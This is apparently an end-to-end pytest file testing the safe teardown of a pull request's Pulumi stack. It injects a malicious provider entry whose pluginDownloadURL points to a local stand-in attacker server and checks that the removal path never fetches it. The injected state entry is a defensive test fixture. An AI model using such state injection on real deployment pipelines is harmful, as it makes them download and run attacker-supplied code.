"""The removal of a pull request's stack on the real engine: a state that it wrote itself, and states that attack."""

from __future__ import annotations

import http.server
import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pulumi
import pytest
import yaml

from infra.ci.actions_run import ActionsRun
from infra.ci.ephemeral.derive import derive
from infra.ci.ephemeral.lifecycle import run_down
from infra.ci.ephemeral.place import Place
from infra.ci.ephemeral.removal import RemovalFailedError
from infra.engine.driver import Engine
from infra.engine.locks import state_of_stack
from infra.engine.outcome import DeploymentFailedError
from infra.engine.program import run_program
from infra.plan.answers import Answers
from infra.settings.stack_file import read_stack_file
from tests.e2e.aws_program.stack import STACKS, echo_stack, echo_workspace
from tests.echo.account import Account
from tests.echo.service import serving
from tests.platforms.guest.test_guest import SHARING

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

ACCOUNT = "111122223333"
ROLE = "nightowl-dev-ephemeral"


@dataclass
class Elsewhere:
    """A server of the attacker, and what it was asked for."""

    url: str = ""
    asked: list[str] = field(default_factory=list)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *args: object) -> None:
            """Keep the test's output clean."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    found.url = f"http://127.0.0.1:{server.server_port}/evil"
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()


@dataclass(frozen=True)
class Guest:
    """The stack of pull request 7, as it was deployed."""

    place: Place
    account: Account
    file: Path
    state: Path
    made: dict[str, Any]

    def write(self, *more: dict[str, Any]) -> None:
        """Write the state as it was, with more resources in it."""
        document = json.loads(json.dumps(self.made))
        document["checkpoint"]["latest"]["resources"] += more
        self.state.write_text(json.dumps(document))


@pytest.fixture(scope="module")
def guest(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guest]:
    root = tmp_path_factory.mktemp("guest")
    shutil.copytree(STACKS, root / "checkout" / "stacks", ignore=shutil.ignore_patterns("Pulumi.pr-*"))
    shared = {**SHARING, "deployers": [f"arn:aws:iam::{ACCOUNT}:role/{ROLE}"]}
    with echo_stack(root, STACKS / "Pulumi.dev.yaml", policies=False) as base:
        base.engine.deploy(base.file, lambda: pulumi.export("sharing", shared))
        binary = base.engine.pulumi_binary
    file = root / "Pulumi.pr-7.yaml"
    document: Any = read_stack_file(STACKS / "Pulumi.dev.yaml").document
    document["config"]["nightowl:apps"]["web"]["secrets"] = {"session-key": "dev/web/session-key"}
    file.write_text(yaml.safe_dump(derive(document, 7, base="dev", images={})))
    account = Account(answers=Answers(stack="pr-7", account_id=ACCOUNT, region="eu-central-1", role=ROLE), limits=[])
    with serving(account) as providers:
        engine = Engine(workspace=echo_workspace(root, providers), pulumi_binary=binary)
        engine.deploy(file, run_program)
        state = root / "state" / state_of_stack("nightowl", "pr-7")
        place = Place(project=root / "checkout", base="dev", engine=engine, run=ActionsRun())
        yield Guest(place, account, file, state, json.loads(state.read_text()))


def evil_resources(url: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """A provider that is downloaded from elsewhere, and a resource that needs it to be deleted."""
    urn = "urn:pulumi:pr-7::nightowl::"
    provider = {
        "urn": f"{urn}pulumi:providers:evil::evil",
        "custom": True,
        "id": "1",
        "type": "pulumi:providers:evil",
        "inputs": {"__internal": {"pluginDownloadURL": url}, "version": "1.0.0"},
        "outputs": {"version": "1.0.0"},
    }
    thing = {
        "urn": f"{urn}evil:index:Thing::thing",
        "custom": True,
        "id": "1",
        "type": "evil:index:Thing",
        "provider": f"{provider['urn']}::1",
    }
    return provider, thing


def test_a_provider_of_the_states_own_is_asked_for_by_a_bare_engine_and_never_by_the_removal(guest: Guest) -> None:
    with elsewhere() as server:
        guest.write(*evil_resources(server.url))
        with pytest.raises(DeploymentFailedError):
            guest.place.engine.destroy(guest.file)
        assert server.asked, "the attack works on an engine that reads the state as it is"

        server.asked.clear()
        guest.write(*evil_resources(server.url))
        before = dict(guest.account.objects)
        with pytest.raises(RemovalFailedError, match="pluginDownloadURL"):
            run_down(guest.place, 7)
        assert server.asked == []
        assert guest.account.objects == before, "nothing was begun"


def test_an_engine_that_downloads_nothing_asks_for_no_plugin_whatever_the_state_says(guest: Guest) -> None:
    workspace = guest.place.engine.workspace
    # The second wall alone: the state is not checked, and the engine downloads nothing.
    environment = {**workspace.environment, "PULUMI_DISABLE_AUTOMATIC_PLUGIN_ACQUISITION": "true"}
    walled = replace(guest.place.engine, workspace=replace(workspace, environment=environment))
    with elsewhere() as server:
        guest.write(*evil_resources(server.url))
        with pytest.raises(DeploymentFailedError, match="no resource plugin 'pulumi-resource-evil' found"):
            walled.destroy(guest.file)
        assert server.asked == []


def test_what_a_pull_request_made_is_removed_from_its_own_state_with_providers_of_the_pipeline(guest: Guest) -> None:
    guest.write()
    made = {type_ for type_, _ in guest.account.objects}
    assert "aws:eks/podIdentityAssociation:PodIdentityAssociation" in made
    assert not [type_ for type_ in made if type_.startswith("aws:iam/")], "no role that could outlive it"
    assert run_down(guest.place, 7)
    assert guest.account.objects == {}
    assert guest.place.guests.stacks() == {}
    assert not run_down(guest.place, 7), "a second time there is nothing to do"
